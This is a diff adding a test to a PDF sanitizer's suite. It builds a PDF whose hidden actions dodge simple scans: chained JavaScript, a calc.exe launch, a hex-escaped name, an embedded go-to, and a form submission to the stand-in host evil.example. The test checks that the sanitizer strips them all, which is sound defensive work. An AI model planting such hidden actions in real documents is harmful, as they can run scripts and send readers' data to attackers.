@@ -334,6 +334,60 @@ def test_only_launch_actions_can_be_removed(tmp_path: Path) -> None:
         assert action_types(doc) == {"/JavaScript", "/JS", "/AA"}
 
 
+def hidden_actions_pdf(path: Path) -> Path:
+    """Actions where a walk of the usual keys misses them: in a link's /A /Next (a dictionary, and an
+    array of them), a rendition's script, a hex-escaped name, a form submission, an embedded go-to,
+    a launch in a /Next, and the catalog's associated files."""
+    doc = pymupdf.open()
+    page = doc.new_page()
+    page.insert_text((72, 100), LINE, fontsize=12)
+    actions = [
+        "<< /S /URI /URI (https://example.org/a) /Next << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
+        "<< /S /URI /URI (https://example.org/b) /Next [ << /S /Launch /F (calc.exe) >>"
+        " << /S /JavaScript /JS (app.alert\\(2\\)) >> ] >>",
+        "<< /S /Rendition /OP 0 /JS (app.alert\\(3\\)) >>",
+        "<< /S /Java#53cript /JS (app.alert\\(4\\)) >>",
+        "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
+        "<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>",
+    ]
+    annots = []
+    for n, action in enumerate(actions):
+        xref = doc.get_new_xref()
+        doc.update_object(xref, f"<< /Type /Annot /Subtype /Link /Rect [72 {200 + 30 * n} 200 {220 + 30 * n}]"
+                                f" /Border [0 0 0] /A {action} >>")
+        annots.append(f"{xref} 0 R")
+    doc.xref_set_key(page.xref, "Annots", f"[{' '.join(annots)}]")
+    spec = doc.get_new_xref()
+    doc.update_object(spec, "<< /Type /Filespec /F (data.csv) /AFRelationship /Data >>")
+    doc.xref_set_key(doc.pdf_catalog(), "AF", f"[{spec} 0 R]")
+    doc.save(path)
+    doc.close()
+    return path
+
+
+def everything_in(doc: pymupdf.Document) -> str:
+    return "\n".join(doc.xref_object(x, compressed=True) for x in range(1, doc.xref_length()))
+
+
+def test_actions_hidden_in_chains_arrays_renditions_and_escaped_names_are_removed(tmp_path: Path) -> None:
+    source = hidden_actions_pdf(tmp_path / "in.pdf")
+    with pymupdf.open(source) as doc:
+        before = everything_in(doc)
+        assert action_types(doc) >= {"/JavaScript", "/Launch", "/JS"}
+        assert all(word in before for word in ("/SubmitForm", "/GoToE", "/AF", "/Rendition"))
+    output, notes = sanitize(source, tmp_path / "out")
+    with pymupdf.open(output) as doc:
+        after = everything_in(doc)
+        assert action_types(doc) == set(), after
+        for word in ("/SubmitForm", "/GoToE", "/AF", "calc.exe", "app.alert", "evil.example"):
+            assert word not in after, (word, after)
+        # the web links stay: only what they chained is gone
+        assert sorted(link.get("uri") for link in doc[0].get_links() if link.get("uri")) == [
+            "https://example.org/a", "https://example.org/b"]
+        assert SECRET in doc[0].get_text()
+    assert "SubmitForm action" in notes[0] and "GoToE action" in notes[0] and "associated files" in notes[0]
+
+
 def test_a_clean_pdf_is_said_to_have_nothing_to_remove(tmp_path: Path) -> None:
     source = one_page(tmp_path / "in.pdf", LINE)
     with pymupdf.open(source) as doc:
